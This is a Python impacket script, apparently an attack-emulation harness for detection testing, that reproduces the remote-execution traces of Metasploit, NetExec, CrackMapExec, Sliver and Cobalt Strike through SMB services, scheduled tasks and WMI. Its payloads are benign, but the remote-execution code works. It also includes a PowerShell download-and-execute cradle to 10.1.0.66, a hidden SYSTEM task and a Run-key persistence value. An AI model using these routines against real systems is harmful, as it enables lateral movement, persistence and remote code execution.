"""What tools do whose clients are not at hand, call by call and word by word as their published sources have it, by python3-impacket.

usage: published.py WHAT HOST [PASSWORD]
Sources: rapid7/metasploit-framework lib/msf/core/exploit/remote/smb/client/psexec.rb; Pennyw0rth/NetExec nxc/protocols/smb/{smbexec,
atexec,wmiexec}.py and nxc/protocols/wmi/wmiexec.py; BishopFox/sliver client/command/exec/psexec.go; byt3bl33d3r/CrackMapExec
cme/helpers/powershell.py; for Cobalt Strike, which is closed, the rules of SigmaHQ/sigma that name what its psexec and psexec_psh leave.
"""
import base64
import io
import sys

from impacket.dcerpc.v5 import sasec, scmr, transport, tsch
from impacket.dcerpc.v5.dcom import wmi
from impacket.dcerpc.v5.dcomrt import DCOMConnection
from impacket.dcerpc.v5.dtypes import NULL

what, host = sys.argv[1:3]
password = sys.argv[3] if len(sys.argv) > 3 else 'Passw0rd!'

# A PE image of headers alone.
PROGRAM = b'MZ' + b'\0' * 58 + b'\x40\0\0\0' + b'PE\0\0' + b'\x64\x86\1\0' + b'\0' * 12 + b'\xf0\0\x22\0' + b'\x0b\2' + b'\0' * 420


def encoded(script):
    return base64.b64encode(script.encode('utf-16le')).decode()


def pipe(name, interface):
    over = transport.DCERPCTransportFactory(r'ncacn_np:%s[\pipe\%s]' % (host, name))
    over.set_credentials('Administrator', password, 'LAB')
    rpc = over.get_dce_rpc()
    rpc.connect()
    rpc.bind(interface)
    return rpc, over.get_smb_connection()


def service(name, shown, path, drop=None, output=None, delete=()):
    rpc, smb = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    if drop:
        smb.putFile('ADMIN$', drop, io.BytesIO(PROGRAM).read)
    manager = scmr.hROpenSCManagerW(rpc)['lpScHandle']
    made = scmr.hRCreateServiceW(rpc, manager, name + '\0', shown + '\0', lpBinaryPathName=path + '\0',
                                 dwStartType=scmr.SERVICE_DEMAND_START)['lpServiceHandle']
    try:
        scmr.hRStartServiceW(rpc, made)
    except scmr.DCERPCSessionError as refusal:
        print(refusal)
    scmr.hRDeleteService(rpc, made)
    scmr.hRCloseServiceHandle(rpc, made)
    if output:
        smb.getFile(*output, lambda data: print(data))
    for share, file in delete:
        smb.deleteFile(share, file)
    smb.logoff()


def cobalt_strike():
    service('b3c2f1a', 'b3c2f1a', '\\\\127.0.0.1\\ADMIN$\\b3c2f1a.exe', drop='b3c2f1a.exe', delete=[('ADMIN$', 'b3c2f1a.exe')])
    service('4d1a7c2', '4d1a7c2', '%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand '
            + encoded('Start-Sleep -Seconds 1; Get-Date'))


def metasploit():
    service('kVbQzXwe', 'tGhJkLmNbVcXzQwE', '%SYSTEMROOT%\\pLmKoNji.exe', drop='pLmKoNji.exe', delete=[('ADMIN$', 'pLmKoNji.exe')])
    text, bat = '\\Windows\\Temp\\qAzWsXedCrfV.txt', '\\Windows\\Temp\\tGbYhNujM.bat'
    service('RfVtGbYh', 'NujMikOlPqAzWsXe', '%COMSPEC% /C echo ipconfig ^> %SYSTEMDRIVE%' + text + ' > ' + bat +
            ' & %COMSPEC% /C start %COMSPEC% /C ' + bat, output=('C$', text), delete=[('C$', text)])

    service('qzvbnm', 'qzvbnm', 'cmd.exe /c echo qzvbnm > \\\\.\\pipe\\qzvbnm')


def netexec():
    line = ('%COMSPEC% /Q /c echo ipconfig ^> \\\\%COMPUTERNAME%\\C$\\kRtYpL 2^>^&1 > %TEMP%\\qWmNbV.bat'
            ' & %COMSPEC% /Q /c %TEMP%\\qWmNbV.bat & %COMSPEC% /Q /c del %TEMP%\\qWmNbV.bat')
    service('aBcDeFgHiJ', 'aBcDeFgHiJ', line, output=('C$', 'kRtYpL'), delete=[('C$', 'kRtYpL')])
    line = line.replace('%COMPUTERNAME%', '127.0.0.1').replace('kRtYpL', 'zXcVbN')
    service('kLmNoPqRsT', 'kLmNoPqRsT', line, output=('C$', 'zXcVbN'), delete=[('C$', 'zXcVbN')])


def crackmapexec():
    line = "powershell.exe -exec bypass -noni -nop -w 1 -C \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.0.66/a.ps1')\""
    service('uIoPaSdFgH', 'uIoPaSdFgH', '%COMSPEC% /Q /c ' + line)
    line = 'powershell.exe -noni -nop -w 1 -enc ' + encoded('Start-Sleep -Seconds 1; Get-Date')
    service('jKlZxCvBnM', 'jKlZxCvBnM', '%COMSPEC% /Q /c ' + line)


def sliver():
    service('Sliver', 'Sliver', 'c:\\windows\\temp\\3pq7xk2mzw.exe', drop='Temp\\3pq7xk2mzw.exe')


TASK = '''<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Principals><Principal id="LocalSystem"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><AllowStartOnDemand>true</AllowStartOnDemand><Enabled>true</Enabled><Hidden>%s</Hidden></Settings>
  <Actions Context="LocalSystem"><Exec><Command>%s</Command><Arguments>%s</Arguments></Exec></Actions>
</Task>'''


def netexec_task():
    rpc, smb = pipe('atsvc', tsch.MSRPC_UUID_TSCHS)
    output = '\\Windows\\Temp\\mNbVcX'
    text = TASK % ('true', 'cmd.exe', '/C ipconfig &gt; %s 2&gt;&amp;1' % output)
    tsch.hSchRpcRegisterTask(rpc, '\\qWeRtYuI', text, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcRun(rpc, '\\qWeRtYuI')
    tsch.hSchRpcGetLastRunInfo(rpc, '\\qWeRtYuI')
    tsch.hSchRpcDelete(rpc, '\\qWeRtYuI')
    smb.getFile('C$', output, lambda data: print(data))
    smb.deleteFile('C$', output)


def task_rights():
    rpc, _ = pipe('atsvc', tsch.MSRPC_UUID_TSCHS)
    text = TASK % ('false', 'C:\\ProgramData\\Backup\\nightly.exe', '/quiet')
    tsch.hSchRpcRegisterTask(rpc, '\\Backup', text, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    tsch.hSchRpcSetSecurity(rpc, '\\Backup', 'D:P(A;;FA;;;SY)\0', 0)


def task_account():
    rpc, _ = pipe('atsvc', sasec.MSRPC_UUID_SASEC)
    sasec.hSASetAccountInformation(rpc, '\\\\' + host, 'nightly.job', 'LAB\\ssales', 'Winter2023!')


def process_class():
    connection = DCOMConnection(host, 'Administrator', password, 'LAB', oxidResolver=True)
    login = wmi.IWbemLevel1Login(connection.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login))
    services = login.NTLMLogin('//./root/cimv2', NULL, NULL)
    login.RemRelease()
    return connection, services, services.GetObject('Win32_Process')[0]


def netexec_smb_wmi():
    _, smb = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
    connection, _, process = process_class()
    output = '\\Windows\\Temp\\qZtbRk'
    process.Create('cmd.exe /Q /c ipconfig 1> %s 2>&1' % output, 'C:\\', None)
    smb.getFile('C$', output, lambda data: print(data))
    smb.deleteFile('C$', output)
    connection.disconnect()


def netexec_wmi():
    connection, services, process = process_class()
    result, carried = ('C:\\windows\\temp\\%s.txt' % name for name in (
        '3f1d2a4e-8b6c-4f0a-9d57-6c1e2b7a9f30', 'a7c4e1b9-52d8-4a63-8f1e-0d9b3c6e7a21'))
    key, value = 'Software\\Classes\\xWqLpZ', '5b0e9c72-1f4a-4d83-b6e9-27a8c0d1f3e4'
    process.Create('cmd.exe /Q /c  ipconfig 1> ' + result + ' 2>&1 && certutil -encodehex -f ' + result + ' ' + carried +
                   ' 0x40000001 && for /F "usebackq" %G in ("' + carried + '") do reg add HKLM\\' + key + ' /v ' + value +
                   ' /t REG_SZ /d "%G" /f && del /q /f /s ' + result + ' ' + carried, 'C:\\', None)
    registry = services.GetObject('StdRegProv')[0].SpawnInstance()
    print(registry.GetStringValue(2147483650, key, value).sValue)
    registry.DeleteKey(2147483650, key)
    connection.disconnect()


# A program started, the system's name asked for, and a value of a Run key set: nothing is deleted.
def wmi_registry():
    connection, services, process = process_class()
    process.Create('C:\\ProgramData\\Inventory\\agent.exe /scan', 'C:\\', None)
    registry = services.GetObject('StdRegProv')[0].SpawnInstance()
    print(registry.GetStringValue(2147483650, 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion', 'ProductName').sValue)
    registry.SetStringValue(2147483650, 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'Inventory',
                            'C:\\ProgramData\\Inventory\\agent.exe')
    connection.disconnect()


globals()[what]()
